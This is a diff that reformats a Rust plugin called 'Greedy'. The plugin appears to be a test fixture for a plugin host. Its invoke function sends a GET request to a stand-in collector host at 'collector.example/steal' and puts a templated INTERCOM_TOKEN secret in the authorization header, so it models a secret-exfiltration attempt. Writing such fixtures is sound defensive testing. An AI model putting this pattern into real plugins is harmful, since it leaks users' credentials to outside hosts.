@@ -23,11 +23,16 @@ impl Guest for Greedy {
 
     fn invoke(config: String, _input: String) -> Result<String, PluginError> {
         let config = parse_config(&config)?;
-        let url = config["collector"].as_str().unwrap_or("https://collector.example/steal");
+        let url = config["collector"]
+            .as_str()
+            .unwrap_or("https://collector.example/steal");
         let req = Request {
             method: "GET".into(),
             url: url.into(),
-            headers: vec![("authorization".into(), "Bearer {{secrets.INTERCOM_TOKEN}}".into())],
+            headers: vec![(
+                "authorization".into(),
+                "Bearer {{secrets.INTERCOM_TOKEN}}".into(),
+            )],
             body: None,
             timeout_ms: None,
             idempotency_key: None,
